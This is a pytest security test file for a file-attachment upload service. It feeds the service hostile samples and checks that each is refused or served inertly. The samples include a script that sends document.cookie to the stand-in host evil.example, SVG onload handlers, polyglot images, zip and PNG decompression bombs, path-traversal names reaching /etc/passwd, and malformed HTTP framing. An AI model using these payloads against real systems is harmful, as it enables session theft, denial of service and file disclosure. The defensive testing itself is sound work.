"""What becomes of a file that is meant to do harm? Refused, or kept as bytes that do none."""

import asyncio
import gzip
import socket
import struct
import zipfile
import zlib
from collections.abc import AsyncIterator, Iterator
from io import BytesIO
from pathlib import Path
from time import monotonic
from urllib.parse import urlsplit

import pytest

from app.storage import Storage
from jobs.nightly import run_nights
from jobs.orphans import remove_files
from models.file_types import is_shown
from tests.filing import POLICY, Filing, filing, png, zipped
from tests.test_uploads import DAY, assert_nothing_there, here, nothing_changes

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
PAGE = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
DRAWING = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script/></svg>"
UNKNOWN = "application/octet-stream"


@pytest.fixture
async def files(tmp_path: Path) -> AsyncIterator[Filing]:
    async with filing(tmp_path, policy=POLICY.with_knobs({"mostAttachmentBytes": 3_000_000})) as served:
        yield served


def jpeg(*segments: tuple[int, bytes], tail: bytes = b"") -> bytes:
    """Of one point, with these segments in it."""
    between = b"".join(
        bytes((0xFF, marker)) + struct.pack(">H", len(content) + 2) + content for marker, content in segments
    )
    start = b"\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x7f\xff\xd9"
    return start + between + scan + tail


def gif(tail: bytes = b"") -> bytes:
    return (
        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
        + tail
    )


def pixels(width: int, height: int) -> bytes:
    """A picture that would fill the memory of whoever looks at it."""
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    line = zlib.compress(bytes(50_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", line) + chunk(b"IEND", b"")


def bomb() -> bytes:
    """An archive of archives of nothing: two hundred megabytes, in small."""
    inner = BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a", bytes(20_000_000))
    outer = BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(10):
            archive.writestr(f"{number}.zip", inner.getvalue())
    return outer.getvalue()


KEPT = {
    "a page": (PAGE, "text/html", UNKNOWN),
    "a page that is said to be text": (PAGE, "text/plain", UNKNOWN),
    "a page that is said to be nothing": (PAGE, "", UNKNOWN),
    "a page behind a comment": (b"<!-- -->\n" + PAGE, "text/plain", UNKNOWN),
    "a page in wide letters": (PAGE.decode().encode("utf-16"), "text/html", UNKNOWN),
    "a page in wide letters that is said to be text": (PAGE.decode().encode("utf-16"), "text/plain", "text/plain"),
    "a drawing": (DRAWING, "image/svg+xml", UNKNOWN),
    "a drawing that is said to be XML": (DRAWING, "application/xml", UNKNOWN),
    "a drawing, packed": (gzip.compress(DRAWING), "application/gzip", "application/gzip"),
    "a script": (b"alert(document.cookie)", "application/javascript", UNKNOWN),
    "a module": (b"export default 1", "text/javascript", UNKNOWN),
    "a style": (b"body{background:url(//evil.example)}", "text/css", UNKNOWN),
    "a worker's manifest": (b"{}", "application/manifest+json", UNKNOWN),
    "a picture before a page": (png(tail=PAGE), "image/png", "image/png"),
    "a picture before an archive": (png(tail=zipped("a.class")), "image/png", "image/png"),
    "a picture with a page in a remark": (jpeg((0xFE, PAGE)), "image/jpeg", "image/jpeg"),
    "a picture with a page in its marks": (jpeg((0xE1, b"Exif\0\0" + PAGE)), "image/jpeg", "image/jpeg"),
    "a picture before a page, of another kind": (jpeg(tail=PAGE), "image/jpeg", "image/jpeg"),
    "a moving picture before a page": (gif(PAGE), "image/gif", "image/gif"),
    "a document with a script": (
        b"%PDF-1.7\n%\xe2\xe3\n/OpenAction<</S/JavaScript>>",
        "application/pdf",
        "application/pdf",
    ),
    "a document before a page": (b"%PDF-1.7\n%\xe2\xe3\n" + PAGE, "application/pdf", "application/pdf"),
    "a picture of a milliard points": (pixels(60_000, 60_000), "image/png", "image/png"),
    "an archive of archives": (bomb(), "application/zip", "application/zip"),
    "an archive that climbs": (
        zipped("../../../../etc/passwd", "/etc/passwd"),
        "application/zip",
        "application/zip",
    ),
}
"""What it is said to be, and as what it is kept."""

IN_IT = (b"<script", b"PK\x03\x04")


@pytest.mark.parametrize("name", KEPT)
async def test_a_hostile_file_does_no_harm(files: Filing, name: str) -> None:
    content, said, kept = KEPT[name]
    began = monotonic()
    attachment = await files.upload("ada", content, said)
    answer, body = await files.get(files.at(attachment), "ada")
    assert monotonic() - began < 3, "nothing is unpacked"
    assert answer.headers["Content-Type"] == kept
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cache-Control"] == "private, no-cache"
    assert answer.headers["Referrer-Policy"] == "no-referrer"
    policy = answer.headers["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'")
    assert "; sandbox" in policy
    assert "allow-scripts" not in policy
    way = answer.headers["Content-Disposition"].partition(";")[0]
    assert way == ("inline" if is_shown(kept) else "attachment")
    if kept in ("image/png", "image/jpeg"):
        assert not any(each in body for each in IN_IT), "what stands beside the picture is left out"
    else:
        assert body == content


REFUSED = {
    "a page as a picture": (PAGE, "image/png"),
    "a page that begins as a picture": (b"GIF89a=1;/*" + PAGE + b"*/", "image/gif"),
    "a page as a sound": (PAGE, "audio/mpeg"),
    "a page as a document": (PAGE, "application/pdf"),
    "a drawing as a picture": (DRAWING, "image/png"),
    "a script as a picture": (b"alert(1)", "image/bmp"),
    "an archive as a picture": (zipped("a"), "image/jpeg"),
    "a program": (b"MZ\x90\x00" + bytes(100), "application/pdf"),
    "a program as nothing": (b"\x7fELF" + bytes(100), ""),
    "a program by its name": (b"text", "application/x-msdownload"),
    "a type with a line in it": (png(), "image/png\\r\\nX: y"),
    "a type that is none": (png(), "image/*"),
    "a type without end": (png(), "image/" + "p" * 4_000),
    "a form": (b"--x\r\n", "multipart/form-data; boundary=x"),
    "a form without a border": (b"--x\r\n", "multipart/form-data"),
    "a form with a hole in its head": (
        b'--x\r\nContent-Disposition: form-data; name="a\0b"\r\n\r\na\r\n--x--',
        "multipart/form-data; boundary=x",
    ),
    "a form that never ends": (b"--x\r\n" * 10_000, "multipart/mixed; boundary=x"),
}


@pytest.mark.parametrize("name", REFUSED)
async def test_a_file_that_lies_is_refused(files: Filing, name: str) -> None:
    content, said = REFUSED[name]
    with nothing_changes(files):
        status, answer = await files.post("ada", content, said)
    assert (status, answer["code"]) in ((415, "FALSE_TYPE"), (415, "FORBIDDEN_TYPE"))


# ------------------------------------------------------------------------------------------ its name

CLIMBING = (
    "../../etc/passwd",
    "..\\..\\x",
    "/etc/passwd",
    "C:\\x",
    "a/../../x",
    "%2e%2e%2fx",
    "....//x",
    "~/x",
    "CON",
)


@pytest.mark.parametrize("name", CLIMBING)
async def test_a_name_leads_nowhere(files: Filing, name: str) -> None:
    """Neither when it is kept, nor when it is asked for: a file lies under a key of ours."""
    before = set(everything(files.folder.parent))
    attachment = await files.upload("ada", name=name)
    (row,) = files.rows()
    assert "/" not in row.name
    assert "\\" not in row.name
    assert set(everything(files.folder.parent)) - before <= {files.folder / row.storage_key}
    for asked in ("x", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e", "a%00b", "%ff"):
        answer, body = await files.get(f"{files.address}/attachments/{attachment}/{asked}", "ada")
        assert (answer.status, body) == (200, png()) or (answer.status, asked) == (404, "%2e%2e")


def everything(folder: Path) -> Iterator[Path]:
    return (path for path in folder.rglob("*") if path.is_file() and "preau" not in path.name)


async def test_an_id_leads_nowhere(files: Filing) -> None:
    await files.upload("ada")
    for id_ in (
        "..",
        "%2e%2e",
        "..%2f..%2fpreau.db",
        "Attachment_1%00",
        "Attachment_1%2f..",
        "attachment_1",
        "%ff",
    ):
        answer, _ = await files.get(f"{files.address}/attachments/{id_}/a.png", "ada")
        assert answer.status == 404, id_


# ------------------------------------------------------------------------------------- how it is sent

HEAD = "POST /attachments?name=a.txt HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nAuthorization: {}\r\n"


@pytest.mark.parametrize(
    ("rest", "status"),
    [
        ("Transfer-Encoding: chunked\r\n\r\nzz\r\na\r\n0\r\n\r\n", 400),
        ("Transfer-Encoding: chunked\r\n\r\n-5\r\nhello\r\n0\r\n\r\n", 400),
        ("Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\nhello\r\n", 400),
        ("Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\nhello", 400),
        ("Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!", 400),
        ("Content-Length: -5\r\n\r\nhello", 400),
        ("Content-Length: 99999999999999999999999\r\n\r\nhello", 400),
        ("Content-Length: 9999999999\r\n\r\nhello", 413),
        ("Content-Encoding: gzip\r\nContent-Length: 5\r\n\r\nhello", 415),
    ],
)
async def test_what_is_sent_in_a_broken_way_is_refused(files: Filing, rest: str, status: int) -> None:
    parts = urlsplit(files.address)
    with nothing_changes(files):
        reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
        writer.write((HEAD.format(files.token("ada")["Authorization"]) + rest).encode())
        async with asyncio.timeout(5):
            assert (await reader.readline()).split()[1] == str(status).encode()
        writer.close()
        await asyncio.sleep(0.05)
    assert (await files.post("ada", png()))[0] == 201


# ----------------------------------------------------------------------------------- when it is over


async def test_what_was_purged_is_nowhere(tmp_path: Path) -> None:
    """Kept for a month by the school, and the night has been: neither its row, nor its file, nor its address."""
    async with filing(tmp_path, policy=POLICY.with_knobs({"retentionDays": 30})) as files:
        attachment = await files.upload("ada")
        message = await files.send("ada", await files.room("ada", "bob"), attachment)
        urls = {login: here(files, str(await files.url(login, attachment))) for login in ("ada", "bob")}
        await files.do("bob", "deleteMessages", messageIds=[message])
        await assert_nothing_there(files, urls["bob"])
        assert (await files.get(urls["ada"]))[1] == png()
        files.watch.now += 31 * DAY
        run_nights(files.database)
        remove_files(files.database, Storage(f"file:{files.folder}"))
        files.assert_nothing_is_left()
        for login in ("ada", "bob"):
            await assert_nothing_there(files, urls[login])
            await assert_nothing_there(files, files.at(attachment), login)


# ---------------------------------------------------------------------------------- who takes nothing


async def test_who_takes_no_file_holds_up_himself_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("app.downloads.AT_ONCE", 1)
    monkeypatch.setattr("app.downloads.SILENCE", 2.0)
    async with filing(tmp_path, policy=POLICY.with_knobs({"mostAttachmentBytes": 40_000_000})) as files:
        _, said = await files.post("ada", BytesIO(b"a" * 30_000_000), "text/plain")
        own, other = await files.upload("ada"), await files.upload("bob")
        parts = urlsplit(files.address)
        with socket.create_connection((parts.hostname, parts.port)) as silent:
            head = f"GET /attachments/{said['id']}/a HTTP/1.1\r\nHost: x\r\n"
            silent.sendall(f"{head}Authorization: {files.token('ada')['Authorization']}\r\n\r\n".encode())
            await asyncio.sleep(0.2)
            waiting = asyncio.create_task(files.get(files.at(own), "ada"))
            began = monotonic()
            assert (await files.get(files.at(other), "bob"))[1] == png()
            assert monotonic() - began < 1.5
            assert not waiting.done()
            assert (await waiting)[1] == png(), "when the silent one is cut"
